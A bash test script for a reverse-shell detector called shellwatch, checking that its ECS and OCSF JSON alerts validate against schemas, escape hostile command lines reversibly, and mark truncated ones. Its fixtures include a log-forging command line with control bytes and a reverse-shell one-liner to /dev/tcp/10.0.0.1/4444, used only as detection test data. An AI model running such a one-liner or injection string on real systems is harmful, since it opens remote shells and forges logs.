#!/usr/bin/env bash
# json.sh: what `--json` writes, on the committed captures (no root needed): every ECS alert
# validates against docs/alert.schema.json, every OCSF one has what a Detection Finding requires
# (tests/shells/ocsf_check.py), the field lists of docs/shellwatch.8 and docs/run.md are the
# schema's (tools/gen_fields.py); command lines that are not UTF-8 or hold newlines and escapes
# come out as valid, one-line JSON with reversible escapes (and one text line), and a command
# line cut at the alert's size says so, keeping its head and its tail.
source "$(dirname "$0")/../lib.sh"
fx=$SW_ROOT/tests/fixtures
py=/usr/bin/python3
schema_check() { "$py" "$SW_ROOT/tests/shells/schema_check.py" "$@"; }

if ! "$py" -c 'import jsonschema' 2>/dev/null; then
	tap_fail "python3-jsonschema is installed (tools/deps.sh)"
	exit 0
fi

# Every capture we have, every alert severity, suppressed ones too.
: >"$SW_TMP/all.ocsf"
replay_all() {
	local fmt=$1 out=$2
	: >"$out"
	for f in redteam.trace.gz services.trace.gz; do
		"$SW_BIN" replay --json="$fmt" --min-severity low "$fx/$f" >>"$out" 2>/dev/null || return 1
	done
	for f in "$fx"/*.strace.gz; do
		"$SW_BIN" replay -f strace --json="$fmt" --min-severity low "$f" >>"$out" 2>/dev/null || return 1
	done
	"$SW_BIN" replay -f auditd --json="$fmt" --min-severity low \
		"$fx/auditd_reverse_shells.log.gz" >>"$out" 2>/dev/null
}
check "replay --json=ecs of every capture" replay_all ecs "$SW_TMP/all.json"
out=$(schema_check "$SW_TMP/all.json")
check "every ECS alert validates against docs/alert.schema.json (${out##*$'\n'})" \
	schema_check "$SW_TMP/all.json"
[ "$(wc -l <"$SW_TMP/all.json")" -ge 30 ] || tap_fail "at least 30 alerts to validate" "$(wc -l <"$SW_TMP/all.json")"
check "replay --json=ocsf of every capture" replay_all ocsf "$SW_TMP/all.ocsf"
out=$("$py" "$SW_ROOT/tests/shells/ocsf_check.py" "$SW_TMP/all.ocsf")
check "every OCSF finding has what OCSF 1.1 requires of class 2004 (${out##*$'\n'})" \
	"$py" "$SW_ROOT/tests/shells/ocsf_check.py" "$SW_TMP/all.ocsf"
check "the same alerts in both formats" test "$(wc -l <"$SW_TMP/all.json")" = "$(wc -l <"$SW_TMP/all.ocsf")"

# The field lists of the docs are generated from the schema: they agree with it (issue 13: the
# man page listed fields the output did not have).
check "docs/shellwatch.8 lists exactly the schema's fields" "$py" "$SW_ROOT/tools/gen_fields.py" \
	check "$SW_ROOT/docs/shellwatch.8"
check "docs/run.md lists exactly the schema's fields" "$py" "$SW_ROOT/tools/gen_fields.py" \
	check "$SW_ROOT/docs/run.md"
# ... and what is written is what they list: the dotted names of every emitted field, flat.
"$py" - "$SW_TMP/all.json" >"$SW_TMP/emitted" <<'PY'
import json, os, sys
sys.path.insert(0, os.environ["SW_ROOT"] + "/tests/shells")
from ecs_flat import flatten
names = set()
for line in open(sys.argv[1]):
	names |= set(flatten(json.loads(line)))
print("\n".join(sorted(names)))
PY
schema_check fields alert | sort >"$SW_TMP/listed"
extra=$(comm -23 "$SW_TMP/emitted" "$SW_TMP/listed" | tr '\n' ' ')
check "no emitted field is missing from the man page's list${extra:+ ($extra)}" test -z "$extra"
core="@timestamp event.kind event.id event.severity event.risk_score rule.id rule.name \
threat.technique.id threat.technique.subtechnique.id process.pid process.args process.args_count \
process.parent.pid process.parent.command_line process.parent.executable host.name host.hostname \
agent.type agent.version destination.ip destination.port source.port network.direction \
shellwatch.signals shellwatch.severity user.id process.entity_id"
missing=$(for f in $core; do grep -qxF "$f" "$SW_TMP/emitted" || echo "$f"; done | tr '\n' ' ')
check "the captures' alerts carry the core fields${missing:+ (missing: $missing)}" test -z "$missing"

# A reverse shell whose command line holds an invalid UTF-8 byte, a newline that would forge a
# second log line, a carriage return, an ANSI escape and backslashes.
evil='bash -i \xff\xfe\n<81>Dec  1 00:00:00 forged: x\r\x1b[2J \\x41 \x7f\xc2\x9b1m end'
cat >"$SW_TMP/evil.trace" <<EOF
connect pid=10 ppid=1 uid=0 t=1000 start=5 comm=bash fd=3 family=inet addr=127.0.0.1 port=4444 => 0
dup2 pid=10 ppid=1 uid=0 t=2000 start=5 comm=bash fd=3 newfd=0 sock=1 => 0
dup2 pid=10 ppid=1 uid=0 t=3000 start=5 comm=bash fd=3 newfd=1 sock=1 => 1
dup2 pid=10 ppid=1 uid=0 t=4000 start=5 comm=bash fd=3 newfd=2 sock=1 => 2
execve pid=10 ppid=1 uid=0 t=5000 start=5 comm=bash exe=/usr/bin/bash argv="$evil" fd0=sock:inet fd1=sock:inet fd2=sock:inet peer0=127.0.0.1:4444 peer1=127.0.0.1:4444 peer2=127.0.0.1:4444 => 0
EOF
"$SW_BIN" replay --json "$SW_TMP/evil.trace" >"$SW_TMP/evil.json" 2>"$SW_TMP/evil.err"
check "hostile command line: one alert, one line" test "$(wc -l <"$SW_TMP/evil.json")" = 1
check "hostile command line: valid UTF-8, valid against the schema" schema_check "$SW_TMP/evil.json"
check "hostile command line: no raw CR, ESC, DEL, C1 or other control byte in the line" \
	bash -c "! LC_ALL=C grep -qP '[\\x01-\\x09\\x0b-\\x1f\\x7f]|\\xc2[\\x80-\\x9f]' '$SW_TMP/evil.json'"
check "hostile command line: escaped reversibly, and listed as escaped" "$py" - "$SW_TMP/evil.json" <<'PY'
import json, sys
doc = json.loads(open(sys.argv[1], "rb").read().decode("utf-8", "strict"))
esc = doc["shellwatch"]["escaped"]
assert "process.command_line" in esc and "process.args" in esc, esc
def unescape(s):
	out, i = bytearray(), 0
	while i < len(s):
		if s.startswith("\\\\", i):
			out += b"\\"; i += 2
		elif s.startswith("\\x", i):
			out.append(int(s[i + 2:i + 4], 16)); i += 4
		else:
			out += s[i].encode(); i += 1
	return bytes(out)
want = b"bash -i \xff\xfe\n<81>Dec  1 00:00:00 forged: x\r\x1b[2J \\x41 \x7f\xc2\x9b1m end"
got = unescape(doc["process"]["command_line"])
assert got == want, (got, want)
assert b" ".join(unescape(a) for a in doc["process"]["args"]) == want
PY
"$SW_BIN" replay "$SW_TMP/evil.trace" >"$SW_TMP/evil.txt" 2>/dev/null
check "hostile command line: the text alert stays one line (plus the matched events)" \
	test "$(grep -vc '^    ' "$SW_TMP/evil.txt")" = 1
"$SW_BIN" replay --json=ocsf "$SW_TMP/evil.trace" >"$SW_TMP/evil.ocsf" 2>/dev/null
check "hostile command line: OCSF lists it under unmapped.shellwatch.escaped" \
	grep -q '"escaped":\["evidences.process.cmd_line"' "$SW_TMP/evil.ocsf"

# Long command lines: cut at the alert's 1023 bytes with head and tail kept, and said so.
pad=$(head -c 3000 /dev/zero | tr '\0' ' ')
long="sh -c${pad}bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
LONG=$long "$py" -c 'import os, re, sys
sys.stdout.write(re.sub(r"argv=\"[^\"]*\"", lambda m: "argv=\"%s\"" % os.environ["LONG"], sys.stdin.read()))' \
	<"$SW_TMP/evil.trace" >"$SW_TMP/long.trace"
"$SW_BIN" replay --json "$SW_TMP/long.trace" >"$SW_TMP/long.json" 2>/dev/null
check "long command line: truncated flag, the whole length, the tail kept" "$py" - "$SW_TMP/long.json" ${#long} <<'PY'
import json, sys
d = json.loads(open(sys.argv[1]).read())
cmd = d["process"]["command_line"]
assert d["shellwatch"]["command_line_truncated"] is True, d["shellwatch"]
assert d["shellwatch"]["command_line_length"] == int(sys.argv[2]), d["shellwatch"]
assert cmd.startswith("sh -c") and cmd.endswith("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), cmd
assert " bytes cut...]" in cmd and len(cmd.encode()) <= 1023, len(cmd)
PY
sed 's|=> 0$|=> 0|; /^execve/s| fd0=| argv_trunc=1 fd0=|' "$SW_TMP/evil.trace" >"$SW_TMP/cut.trace"
"$SW_BIN" replay --json "$SW_TMP/cut.trace" >"$SW_TMP/cut.json" 2>/dev/null
check "a command line the source cut: truncated, length unknown" "$py" -c '
import json, sys
d = json.loads(open(sys.argv[1]).read())["shellwatch"]
assert d.get("command_line_truncated") is True and "command_line_length" not in d, d
' "$SW_TMP/cut.json"
"$SW_BIN" replay "$SW_TMP/long.trace" >"$SW_TMP/long.txt" 2>/dev/null
check "long command line: the text line says cmd_truncated=${#long}" grep -q " cmd_truncated=${#long} " "$SW_TMP/long.txt"
